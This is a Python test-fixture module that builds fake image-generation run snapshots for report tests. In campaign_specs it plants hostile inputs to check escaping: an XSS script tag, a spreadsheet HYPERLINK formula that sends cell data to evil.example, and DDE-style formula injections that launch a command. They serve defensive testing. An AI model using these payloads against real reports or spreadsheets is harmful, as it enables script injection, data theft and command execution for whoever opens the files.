"""Snapshots for the report tests: real image files on disk, values as the state store gives."""

from __future__ import annotations

import functools
import hashlib
import io
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from PIL import Image, ImageDraw

from runner.records.run_records import FileRecord, GenerationRecord, JobRecord, RunSnapshot

SCRIPT = "<script>window.__pwned = 1; alert('pwned')</script>"


def make_image(path: Path, size: tuple[int, int], colour: tuple[int, int, int], fmt: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_encoded(size, colour, fmt))


@functools.cache
def _encoded(size: tuple[int, int], colour: tuple[int, int, int], fmt: str) -> bytes:
    # Encoded once per worker: the report tests write the same few images hundreds of times,
    # and a WebP encode costs ~10 ms (the same bytes as image.save(path) would write).
    mode = "RGBA" if fmt == "PNG" else "RGB"
    image = Image.new(mode, size, (*colour, 255) if mode == "RGBA" else colour)
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.ellipse((w // 4, h // 4, 3 * w // 4, 3 * h // 4), fill=(250, 250, 250))
    buffer = io.BytesIO()
    image.save(buffer, format=fmt)
    return buffer.getvalue()


def file_record(out_dir: Path, relative: str) -> FileRecord:
    path = out_dir / relative
    data = path.read_bytes()
    with Image.open(path) as image:
        width, height = image.size
    return FileRecord(relative, hashlib.sha256(data).hexdigest(), width, height, len(data))


@dataclass
class JobSpec:
    vars: Mapping[str, Any]
    prompt: str
    source: str = "mug"  # name of a source image made by make_sources
    status: str = "done"
    run: str = "20240501T140300Z-5e7a11"  # the run that generated a done job
    n: int = 1
    error: str | None = None
    output_format: str = "webp"
    outputs: Sequence[str] = field(default_factory=list)


def make_sources(src_dir: Path) -> dict[str, Path]:
    mug = src_dir / "mug.png"
    tote = src_dir / "tote.jpg"
    make_image(mug, (300, 200), (40, 90, 200), "PNG")
    make_image(tote, (200, 300), (200, 120, 40), "JPEG")
    return {"mug": mug, "tote": tote}


def build_snapshot(
    out_dir: Path,
    sources: Mapping[str, Path],
    specs: Sequence[JobSpec],
    *,
    axes: Sequence[str] = ("product", "season", "market"),
    rows: str | None = None,
    columns: str | None = None,
    recipe_name: str = "spring-campaign",
    size: tuple[int, int] = (384, 256),
) -> RunSnapshot:
    jobs = []
    generations = []
    for index, spec in enumerate(specs):
        key = hashlib.sha256(f"{recipe_name}/{index}/{spec.prompt}".encode()).hexdigest()[:16]
        ext = {"webp": "webp", "png": "png", "jpeg": "jpg"}[spec.output_format]
        outputs = tuple(spec.outputs) or tuple(
            f"job-{index:03d}" + (f"-{i + 1}" if spec.n > 1 else "") + f".{ext}"
            for i in range(spec.n)
        )
        files: tuple[FileRecord, ...] = ()
        if spec.status == "done":
            for number, relative in enumerate(outputs):
                colour = ((index * 37) % 256, (number * 80) % 256, 120)
                fmt = {"webp": "WEBP", "png": "PNG", "jpg": "JPEG"}[ext]
                make_image(out_dir / relative, size, colour, fmt)
            files = tuple(file_record(out_dir, relative) for relative in outputs)
            generations.append(
                GenerationRecord(f"uuid-{index}", key, spec.run, spec.n, "medium", "1536x1024")
            )
        label = " ".join(f"{k}={_label(v)}" for k, v in spec.vars.items())
        jobs.append(
            JobRecord(
                key=key,
                index=index,
                label=label,
                vars=dict(spec.vars),
                image_kind="file",
                image_ref=f"images/{sources[spec.source].name}",
                image_path=str(sources[spec.source]),
                prompt_object={
                    "prompt": spec.prompt,
                    "size": "1536x1024",
                    "n": spec.n,
                    "quality": "medium",
                    "output_format": spec.output_format,
                    "output_compression": 85,
                },
                outputs=outputs,
                status=spec.status,  # type: ignore[arg-type]
                attempts=3 if spec.status == "failed" else 1,
                error=spec.error,
                record_uuid=None if spec.status == "failed" else f"uuid-{index}",
                files=files,
                duration_s=None if spec.status == "pending" else 12.5,
            )
        )
    return RunSnapshot(
        recipe_name=recipe_name,
        recipe_path="recipes/spring-campaign.yaml",
        run_id="run-0001",
        started_at="2024-05-01T14:03:00+00:00",
        finished_at="2024-05-01T14:07:31+00:00",
        tool_version="0.1.0",
        axes=tuple(axes),
        report_rows=rows,
        report_columns=columns,
        estimated_cost_usd=1.234,
        jobs=tuple(jobs),
        generations=tuple(generations),
    )


def _label(value: Any) -> str:
    if isinstance(value, Mapping):
        return str(next(iter(value.values())))
    return str(value)


MUG = {"sku": "MUG-01", "name": "ceramic mug"}
TOTE = {"sku": "TOTE-02", "name": "linen tote bag"}
FR = {"code": "fr-FR", "country": "France", "setting": "un café parisien"}
JA = {"code": "ja-JP", "country": "日本", "setting": "京都の庭"}


def campaign_specs() -> list[JobSpec]:
    """Twelve jobs: two products x three seasons x two markets, with every awkward case in it."""
    specs = []
    for product, source in ((MUG, "mug"), (TOTE, "tote")):
        for season in ("spring", "summer", "été 🌞"):
            for market in (FR, JA):
                prompt = f"{product['name']} in {market['setting']} ({season}), soft light"
                specs.append(
                    JobSpec(
                        {"product": product, "season": season, "market": market}, prompt, source
                    )
                )
    specs[0].n = 2  # n > 1: two images in one cell
    specs[1].status = "failed"
    specs[1].error = 'The prompt was rejected by the safety system <b>"policy"</b> & more'
    specs[2].run = "20240420T091500Z-0ea71e"  # done by an earlier run
    specs[3].prompt = f"mug {SCRIPT} on a table, 日本語のプロンプト, café crème 🎉"
    specs[4].vars = {**specs[4].vars, "season": f"summer {SCRIPT}"}
    specs[5].prompt = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    specs[6].vars = {**specs[6].vars, "season": "@SUM(1+1)*cmd|' /C calc'!A0"}
    specs[7].prompt = "-2+3+cmd|' /C calc'!A0"
    specs[8].prompt = "+1 and a\ttab"
    return specs
